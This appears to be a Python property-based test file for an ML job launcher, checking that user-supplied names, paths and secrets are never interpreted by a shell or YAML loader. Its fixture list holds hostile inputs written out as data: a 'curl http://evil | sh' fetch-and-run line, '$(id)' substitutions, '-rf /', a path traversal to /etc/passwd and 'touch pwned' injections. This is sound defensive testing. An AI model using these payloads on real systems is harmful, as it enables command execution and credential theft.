"""Names and paths are data: whatever a user typed, no shell sees it, and it comes out as it went in."""

from __future__ import annotations

import dataclasses
import io
import json
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from manager.errors import EngineError, SpecError
from manager.launch import sky_backend
from manager.launch.engine import LaunchRequest
from manager.launch.render import cluster_name, on_machine, remote_dir, render_task, render_yaml, script
from manager.launch.sky_upload import local_sources
from manager.prices.offer import Offer
from manager.spec.reader import parse_spec
from tasks.job import DataChoice, Job, ModelChoice, parse_job

_EVIL = (
    "x; curl http://evil | sh",
    "$(id)",
    "`id`",
    "a' || id #",
    'a" && id "',
    "--help",
    "-rf /",
    "../../etc/passwd",
    "a\nb: c",
    "{{ 7*7 }}",
    "${HF_TOKEN}",
    "!!python/object:os.system",
    "&anchor *alias",
    "[bold red]x[/]",
    "<script>alert(1)</script>",
    "%s%n",
    "on",
    "12e3",
    "~",
    "\u202e",
)
_TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=60)
_NAMES = st.one_of(st.sampled_from(_EVIL), _TEXT, st.tuples(_TEXT, st.sampled_from(_EVIL)).map("".join))
_MARK = "kzqmark"
"""Stands in each hostile text, so that it is found wherever it leaks to."""
_MARKED = _NAMES.map(lambda text: f"{_MARK}{text}{_MARK}")
OFFER = Offer(
    cloud="aws",
    region="us-east-1",
    instance_type="g6.xlarge",
    accelerator="L4",
    accelerator_count=1.0,
    accelerator_memory_bytes=None,
    vcpus=8,
    host_memory_bytes=None,
    use_spot=False,
    price_usd_per_hour=Decimal("0.80"),
    price_source="test",
    price_age_s=None,
)


@st.composite
def jobs(draw: st.DrawFn) -> Job:
    data = DataChoice(
        source=draw(_MARKED), text=draw(_MARKED), label=draw(_MARKED), train_split=draw(_MARKED), revision=draw(_MARKED)
    )
    return Job(run_id="demo-1", model=ModelChoice(source=draw(_MARKED), revision=draw(_MARKED)), data=data)


def request(job: Job, **changes: Any) -> LaunchRequest:
    return LaunchRequest(run_id="demo-1", job=job, offers=(OFFER,), run_dir=Path("/runs/demo-1"), **changes)


@given(job=jobs(), secret=_MARKED)
def test_nothing_that_a_user_typed_is_in_the_task(job: Job, secret: str) -> None:
    asked = request(job, secrets={"HF_TOKEN": secret})
    task = render_task(asked, upload_dir=Path("/runs/demo-1/upload"))
    assert task.pop("secrets") == {"HF_TOKEN": secret}
    assert _MARK not in json.dumps(task)
    assert (task["setup"], task["run"]) == (script("setup.sh"), script("run.sh"))
    text = render_yaml(asked, upload_dir=Path("/runs/demo-1/upload"))
    assert _MARK not in text
    again = YAML(typ="safe", pure=True).load(io.StringIO(text))
    again.pop("secrets")
    assert again == task


@given(job=jobs())
def test_it_travels_in_the_job_file_as_it_was(job: Job) -> None:
    assert parse_job(on_machine(job, local_sources(job)).to_json()) == job


@given(name=_NAMES)
def test_a_run_is_named_plainly_or_not_at_all(name: str) -> None:
    try:
        cluster = cluster_name(name)
    except EngineError:
        return
    assert set(cluster) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    assert set(remote_dir(name)) <= set("abcdefghijklmnopqrstuvwxyz0123456789-~/")


@given(name=_NAMES, key=st.sampled_from(["name", "project"]))
def test_a_run_file_names_runs_and_projects_plainly(name: str, key: str) -> None:
    text = json.dumps({"schema": 1, "model": "m", "data": "d", key: name})
    try:
        spec = parse_spec(text, name="f", folder=Path("/"))
    except SpecError:
        return
    assert set(getattr(spec, key)) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")


@given(model=_TEXT, column=_NAMES)
def test_a_run_file_says_the_rest_as_it_is_written(model: str, column: str) -> None:
    text = json.dumps({"schema": 1, "model": f"org/{model}", "data": {"source": "org/data", "text": column}})
    try:
        spec = parse_spec(text, name="f", folder=Path("/"))
    except SpecError:
        # YAML itself forbids most control characters.
        return
    assert spec.data.text == column


class Runner:
    """A machine on which a real shell carries out what it is sent."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.copied: list[tuple[str, str]] = []

    def run(self, command: str, **_: Any) -> tuple[int, str, str]:
        done = subprocess.run(["bash", "-c", command], env={"HOME": str(self.home)}, capture_output=True, text=True)
        return done.returncode, done.stdout, done.stderr

    def rsync(self, source: str, target: str, **_: Any) -> None:
        self.copied.append((source, target))


@settings(max_examples=25, deadline=None)
@given(value=_NAMES)
def test_a_value_reaches_a_script_on_the_machine_as_it_is(value: str) -> None:
    runner = Runner(Path("/"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sky_backend, "_head", lambda cluster: runner)
        args = {"cluster": "c", "script": 'printf %s "$NAME"', "env": {"NAME": value}}
        done = sky_backend.run(args, None)  # type: ignore[arg-type]
    # A text stream takes any end of line for its own.
    assert done["out"].replace("\r\n", "\n").replace("\r", "\n") == value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize(
    "source", ["~/x; touch pwned", "~/$(touch pwned)", "~/`touch pwned`", "~/a b", "/x\ntouch pwned"]
)
def test_a_source_to_fetch_is_no_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
    runner = Runner(tmp_path)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sky_backend, "_head", lambda cluster: runner)
    with pytest.raises(ValueError, match="cannot be fetched"):
        sky_backend.fetch({"cluster": "c", "items": [(source, str(tmp_path / "to"))]}, None)  # type: ignore[arg-type]
    assert not (tmp_path / "pwned").exists()
    assert runner.copied == []


def test_what_runs_leave_can_be_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = Runner(tmp_path)
    place = tmp_path / "tunefare-run" / "demo-1"
    (place / "model").mkdir(parents=True)
    (place / "events.jsonl").write_text("")
    monkeypatch.setattr(sky_backend, "_head", lambda cluster: runner)
    items = [(f"{remote_dir('demo-1')}/events.jsonl", "e"), (f"{remote_dir('demo-1')}/model/", "m"), ("~/no/*/x", "n")]
    done = sky_backend.fetch({"cluster": "c", "items": items}, None)  # type: ignore[arg-type]
    assert done["fetched"] == [items[0][0], items[1][0]]
    assert done["missing"] == ["~/no/*/x"]


@pytest.mark.parametrize("name", ["a; touch pwned", "$(touch pwned)", "a b", "a'b"])
def test_a_name_that_the_machine_gives_is_no_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    runner = Runner(tmp_path)
    (tmp_path / "logs" / name).mkdir(parents=True)
    (tmp_path / "logs" / name / "run.log").write_text("")
    monkeypatch.setattr(sky_backend, "_head", lambda cluster: runner)
    done = sky_backend.fetch({"cluster": "c", "items": [("~/logs/*/run.log", "to")]}, None)  # type: ignore[arg-type]
    assert done == {"fetched": [], "missing": ["~/logs/*/run.log"]}
    assert runner.copied == []


def test_offers_name_machines_as_data() -> None:
    evil = dataclasses.replace(OFFER, region="us-east-1; id", instance_type="$(id)")
    task = render_task(dataclasses.replace(request(_plain()), offers=(evil,)), upload_dir=Path("/r/upload"))
    text = json.dumps({key: value for key, value in task.items() if key != "resources"})
    assert "; id" not in text
    assert "$(id)" not in text


def _plain() -> Job:
    return Job(run_id="demo-1", model=ModelChoice(source="m"), data=DataChoice(source="d"))
